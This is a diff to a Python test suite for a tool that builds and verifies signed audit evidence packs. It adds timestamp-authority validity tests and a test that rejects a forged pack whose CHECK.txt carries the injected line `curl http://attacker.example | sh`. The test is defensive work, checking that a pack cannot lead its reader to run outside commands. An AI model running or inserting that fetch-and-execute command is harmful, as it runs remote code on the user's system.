@@ -28,6 +28,7 @@ from support.registry import Registry
 from support.servers import sqlite_store
 from support.timestamps import Authority, timestamp_authority, unasked_for_a_certificate, with_status
 
+from registry_audit.evidence.instructions import STAMPED
 from registry_audit.evidence.statement import make_statement, statement_bytes
 from registry_audit.evidence.verifying import verify_pack
 from registry_audit.report.document import AuditDocument
@@ -184,6 +185,20 @@ def test_a_stranger_checks_it(stamped: Path, authority: Authority, tmp_path: Pat
         assert said in done.stdout
 
 
+@pytest.mark.parametrize(("stamp", "holds"), [("expired-since", True), ("expired-before", False), ("not-yet", False)])
+def test_a_stranger_takes_the_authority_as_it_was_then(stamp: str, holds: bool, tmp_path: Path) -> None:
+    """The stamps are golden: see `tests/unit/evidence/test_stamp.py`."""
+    pack, stamps = tmp_path / "pack", Path(__file__).parents[1] / "golden" / "stamps"
+    pack.mkdir()
+    files = {"statement.txt": "statement.json", f"{stamp}.tsr": "statement.tsr", "tsa-ca.pem": "../tsa-ca.pem"}
+    for name, place in files.items():
+        shutil.copy(stamps / name, pack / place)
+    script = _commands(STAMPED)
+    done = subprocess.run(["bash"], input=script, capture_output=True, text=True, check=False, cwd=pack)
+    assert (done.returncode == 0, "Verification: OK" in done.stdout) == (holds, holds), done.stderr
+    assert ("Time stamp: Nov 28 " in done.stdout) == holds
+
+
 def test_a_listing_checks_a_copy_of_the_model(made: Made, stamped: Path, tmp_path: Path) -> None:
     with zipfile.ZipFile(stamped) as archive:
         archive.extractall(tmp_path)
@@ -313,12 +328,18 @@ def test_a_stamp_that_would_not_hold_makes_no_pack(
 
 
 def _remade(
-    pack: Path, output: Path, change: Callable[[dict[str, Any]], None], drop: str | None = None, page: str = ""
+    pack: Path,
+    output: Path,
+    change: Callable[[dict[str, Any]], None],
+    drop: str | None = None,
+    page: str = "",
+    commands: bytes = b"",
 ) -> Path:
     """The pack as somebody makes it anew who has our software: another report, and everything else to match it.
 
     Args:
         page: another audit.html than the report's own.
+        commands: more of them for CHECK.txt.
     """
     with zipfile.ZipFile(pack) as old:
         files = {info.filename: old.read(info) for info in old.infolist() if info.filename != "statement.tsr"}
@@ -329,6 +350,7 @@ def _remade(
         files = {name: content for name, content in files.items() if drop.replace(":", "-") not in name}
     del files["SHA256SUMS"], files["statement.json"]
     document = AuditDocument.model_validate(report)
+    files["CHECK.txt"] += commands
     files["audit.html"] = (page or "".join(rendered(document, "html"))).encode()
     summed = sorted(files.keys() - {"statement.dsse.json"})
     sums = "".join(f"{hashlib.sha256(files[name]).hexdigest()}  {name}\n" for name in summed).encode()
@@ -831,6 +853,14 @@ TRICKS: dict[str, tuple[Callable[[zipfile.ZipFile], None], str]] = {
     ),
     "comment": (lambda archive: setattr(archive, "comment", b"PK"), "something behind its files"),
 }
+
+
+def test_other_commands_in_check_txt(made: Made, tmp_path: Path) -> None:
+    """A pack that holds must not lead whoever follows it to run somebody else's commands."""
+    pack = made.pack(tmp_path / "pack.zip")
+    commands = b"\n    curl http://attacker.example | sh\n"
+    forged = _remade(pack, tmp_path / "forged.zip", lambda report: None, commands=commands)
+    _must_not_hold(forged, "CHECK.txt has other commands")
 
 
 @pytest.mark.filterwarnings("ignore:Duplicate name")
